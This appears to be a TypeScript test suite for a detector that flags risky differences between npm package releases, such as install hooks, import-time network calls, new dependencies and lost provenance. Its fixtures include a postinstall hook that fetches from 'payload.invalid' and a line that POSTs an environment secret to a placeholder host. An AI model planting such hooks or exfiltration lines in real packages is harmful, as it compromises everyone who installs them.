import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { differencesOf, type Release } from '../../test/differences.ts';

const PLAIN: Release = { files: { 'index.js': `exports.add = (a, b) => a + b;` } };
const told = (before: Release, after: Release): string[] => differencesOf(before, after).map(one => `${one.weight} ${one.detector}`);
const says = (before: Release, after: Release): string =>
  differencesOf(before, after)
    .map(one => one.says)
    .join('\n');

describe('what is new', () => {
  it('is nothing between a package and itself', () => {
    const files = { 'index.js': `require('fs').readFileSync('/etc/hosts'); fetch('https://a.invalid');` };
    assert.deepEqual(told({ files }, { files }), []);
  });

  it('is no code that moved to another file, or was minified', () => {
    const before = {
      'index.js': `const fs = require('fs');\nconst read = () => fs.readFileSync('/etc/hosts');\nread();\nfetch('https://a.invalid');`,
    };
    const after = { 'index.js': `require('./b')`, 'b.js': `var a=require("fs");a.readFileSync("/etc/hosts"),fetch("https://a.invalid")` };
    assert.deepEqual(
      told({ files: before }, { files: after }).filter(one => !one.endsWith('new-code-files')),
      [],
    );
  });

  it('is no version number and no hash in a name', () => {
    const of = (version: string, hash: string): Release => ({
      files: {
        'package.json': { name: 'specimen', version },
        'index.js': `fetch('https://a.invalid/${version}/x'); require('fs').readFileSync('chunk-${hash}.bin');`,
      },
    });
    assert.deepEqual(told(of('1.0.0', '1a2b3c4d'), of('1.0.1', '9f8e7d6c')), []);
  });

  it('is an effect that happens at another moment, or is done to something else', () => {
    const before = { files: { 'index.js': `exports.go = () => fetch('https://a.invalid');` } };
    assert.deepEqual(told(before, { files: { 'index.js': `fetch('https://a.invalid');` } }), ['weak new-effect-at-import']);
    assert.match(
      says(before, { files: { 'index.js': `exports.go = () => fetch('https://b.invalid');` } }),
      /connects \(https:\/\/b\.invalid\)/,
    );
    const address = (last: number): Release => ({ files: { 'index.js': `exports.go = () => fetch('http://192.0.2.${last}/');` } });
    assert.match(says(address(1), address(2)), /192\.0\.2\.2/);
  });

  it('is a hook, and what it does', () => {
    const after: Release = {
      files: {
        'package.json': { name: 'specimen', version: '1.0.1', scripts: { postinstall: 'node setup.js' } },
        'index.js': `exports.add = (a, b) => a + b;`,
        'setup.js': `fetch('https://payload.invalid');`,
      },
    };
    assert.deepEqual(told(PLAIN, after), ['weak new-install-hook', 'strong new-effect-at-install', 'context new-code-files']);
  });

  it('is a hook that is another command, but no hook that stayed', () => {
    const hook = (command: string): Release => ({
      files: { 'package.json': { name: 'specimen', version: '1.0.0', scripts: { install: command } }, 'binding.gyp': '{}' },
    });
    assert.deepEqual(told(hook('node-gyp rebuild'), hook('node-gyp rebuild')), []);
    assert.deepEqual(told(hook('node-gyp rebuild'), hook('node-gyp-build')), ['context changed-install-hook']);
    assert.deepEqual(told(PLAIN, hook('node-gyp rebuild')), ['context new-install-hook']);
  });

  it('is data that leaves at import', () => {
    const before = { files: { 'index.js': `exports.key = process.env.KEY; fetch('https://a.invalid');` } };
    const after = {
      files: { 'index.js': `exports.key = process.env.KEY; fetch('https://b.invalid', { method: 'POST', body: process.env.KEY });` },
    };
    assert.ok(told(before, after).includes('strong new-flow'), said(before, after));
  });

  it('is a dependency, and the place it comes from, but no other range', () => {
    const needs = (dependencies: object, version = '1.0.0'): Release => ({
      files: { 'package.json': { name: 'specimen', version, dependencies }, 'index.js': '' },
    });
    assert.deepEqual(told(needs({ a: '^1.0.0' }), needs({ a: '^2.0.0' })), []);
    assert.deepEqual(told(needs({}), needs({ a: '^1.0.0' }, '1.0.1')), ['weak new-dependency']);
    assert.deepEqual(told(needs({}), needs({ a: '^1.0.0' }, '1.1.0')), ['context new-dependency']);
    assert.ok(told(needs({ a: '^1.0.0' }), needs({ a: 'git+https://b.invalid/a.git' })).includes('weak new-dependency'));
  });

  it('is a publisher by hand and provenance that is gone, and nothing where the registry does not tell', () => {
    const by = (publisher: string, provenance: boolean | undefined): Release => ({ ...PLAIN, publisher, provenance });
    assert.deepEqual(told(by('GitHub Actions', true), by('kim', false)), ['weak changed-publisher', 'weak provenance-gone']);
    assert.deepEqual(told(by('kim', true), by('sam', true)), ['context changed-publisher']);
    assert.deepEqual(told(by('kim', true), by('kim', undefined)), []);
    assert.deepEqual(told(by('kim', undefined), by('kim', false)), []);
    assert.deepEqual(told(by('GitHub Actions', true), PLAIN), []);
    assert.deepEqual(told(PLAIN, by('kim', false)), []);
  });

  it('is a command and a file of machine code', () => {
    const elf = new Uint8Array(64);
    elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
    elf[16] = 2;
    const after: Release = {
      files: { 'package.json': { name: 'specimen', version: '1.0.0', bin: { tool: 'index.js' } }, 'index.js': '', 'helper.bin': elf },
    };
    assert.deepEqual(told(PLAIN, after).toSorted(), ['context new-command', 'weak new-code-files']);
  });

  it('is no declaration of types', () => {
    assert.deepEqual(told(PLAIN, { files: { ...PLAIN.files, 'index.d.ts': 'export declare const a: string;' } }), []);
  });

  it('is not what stands in a file that could not be read before', () => {
    const after = { files: { 'index.js': `fetch('https://a.invalid');` } };
    assert.deepEqual(told({ ...PLAIN, unread: ['index.js'] }, after), []);
  });
});

function said(before: Release, after: Release): string {
  return differencesOf(before, after)
    .map(one => `${one.weight} ${one.detector}: ${one.says}`)
    .join('\n');
}
